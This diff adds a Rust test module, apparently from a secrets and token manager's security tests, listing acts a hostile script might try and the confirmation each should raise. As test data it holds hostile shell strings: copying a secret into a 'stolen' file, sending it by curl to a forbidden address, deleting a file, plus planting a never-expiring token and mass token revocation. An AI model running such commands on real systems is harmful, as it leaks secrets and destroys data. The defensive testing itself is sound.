@@ -1,0 +1,124 @@
+//! What hostile script tries, and the question that each act raises.
+
+use serde_json::{Value, json};
+
+use super::prey::Prey;
+
+pub const REACH: &str = "Connect to this server";
+pub const RUN: &str = "Run this program";
+pub const REPLACE: &str = "Replace this file";
+pub const SAVE: &str = "Save this file";
+pub const OPEN: &str = "Open this file";
+pub const REVOKE: &str = "Revoke this token";
+
+/// What hostile script does: the command, its arguments, and what the person is asked.
+pub struct Act {
+    pub command: &'static str,
+    pub arguments: Value,
+    pub asked: String,
+}
+
+fn act(command: &'static str, asked: &str, arguments: Value) -> Act {
+    Act { command, arguments, asked: asked.to_owned() }
+}
+
+impl Prey {
+    /// All that hostile script tries, in an order in which nothing is in the way of what comes later.
+    pub async fn acts(&self) -> Vec<Act> {
+        let mut acts = self.acts_on_the_value();
+        acts.extend(self.acts_on_files());
+        acts.extend(self.acts_on_servers());
+        acts.extend(self.acts_on_tokens().await);
+        acts
+    }
+
+    fn acts_on_the_value(&self) -> Vec<Act> {
+        let home = self.world.desktop.home().display();
+        let programs = [
+            format!("{home}/steal"),
+            format!("sh -c 'cat > {home}/stolen'"),
+            format!("tee {home}/stolen"),
+            format!("env -i tee {home}/stolen"),
+            format!("cp /dev/stdin {home}/stolen"),
+            format!("dd of={home}/precious"),
+            format!("python3 -c 'open(\"{home}/stolen\", \"w\")'"),
+            format!("curl --data-binary @- {}", self.forbidden.address),
+            format!("/usr/bin/env sh -c 'rm {home}/precious'"),
+        ];
+        let send = |line| act("secrets_send", RUN, json!({"handle": 1, "line": line}));
+        let mut acts: Vec<_> = programs.into_iter().map(send).collect();
+        let value = json!({"handle": 1});
+        acts.extend([
+            act("secrets_reveal", "Show the value", value.clone()),
+            act("secrets_reveal", "Show the value", value.clone()),
+            act("secrets_copy", "Copy the value", value),
+            act("secrets_close", "Close without", json!({"handle": 1, "anyway": true})),
+        ]);
+        acts
+    }
+
+    fn acts_on_files(&self) -> Vec<Act> {
+        let home = self.world.desktop.home().display();
+        let mut acts = Vec::new();
+        for (file, asked) in [("precious", REPLACE), ("steal", REPLACE), (".profile", SAVE)] {
+            let path = format!("{home}/{file}");
+            acts.push(act("secrets_save", asked, json!({"handle": 1, "path": path})));
+            for format in ["csv", "html", "json"] {
+                let arguments = json!({"format": format, "path": path});
+                acts.push(act("audit_save_report", asked, arguments));
+            }
+            let arguments = json!({"text": "", "only": null, "source": "app", "path": path});
+            acts.push(act("journal_export", asked, arguments));
+            let arguments = json!({"connection": 1, "path": path});
+            acts.push(act("audit_save_policy", asked, arguments));
+        }
+        let path = format!("{home}/policy.toml");
+        acts.push(act("audit_load_policy", OPEN, json!({"connection": 1, "path": path})));
+        acts
+    }
+
+    fn acts_on_servers(&self) -> Vec<Act> {
+        let (other, own) = (&self.forbidden.address, &self.world.sandbox.ready().base_url);
+        let connect = |address: &str, credential: &Value| {
+            let request =
+                json!({"address": address, "credential": credential, "organizationId": null});
+            act("connections_connect", REACH, json!({"request": request}))
+        };
+        let mut acts = Vec::new();
+        for address in [other, own] {
+            for way in [
+                json!({"kind": "apiToken"}),
+                json!({"kind": "password", "email": "a@b.example"}),
+                json!({"kind": "cookie"}),
+            ] {
+                acts.push(connect(address, &way));
+            }
+        }
+        acts.push(connect("", &json!({"kind": "cli", "place": "globalFile"})));
+        let arguments = json!({"address": other, "organizationId": null});
+        acts.push(act("connections_sign_in_in_window", REACH, arguments));
+        acts
+    }
+
+    async fn acts_on_tokens(&self) -> Vec<Act> {
+        let mut acts = Vec::new();
+        for name in ["contractor-import", "Mira's laptop", "fresh"] {
+            acts.push(act("tokens_revoke", REVOKE, self.revoke(name).await));
+        }
+        let notes = json!({"place": "", "note": ""});
+        let request = json!({"connection": 1, "name": "planted", "expiry": {"kind": "never"},
+            "scopes": [], "projectId": null, "notes": notes});
+        acts.push(act("tokens_create", "Create this token", json!({"request": request})));
+        let keys = json!([{"connection": 1, "id": self.world.id_of("old-jenkins")}]);
+        let request = json!({"keys": keys, "kind": "keep", "until": {"kind": "days", "days": 30},
+            "reason": "mine"});
+        acts.push(act("decisions_make", "Keep these tokens", json!({"request": request})));
+        let unresolved = json!({"id": {"connection": 1, "attempt": 1}});
+        acts.push(act("journal_keep", "Keep this token", unresolved));
+        let arguments = json!({"plan": self.plan, "typed": "48"});
+        acts.push(act("bulk_revokes_run", "Revoke 48 tokens", arguments));
+        let arguments = json!({"id": 1, "anyway": true});
+        acts.push(act("connections_disconnect", "Disconnect", arguments));
+        acts
+    }
+}
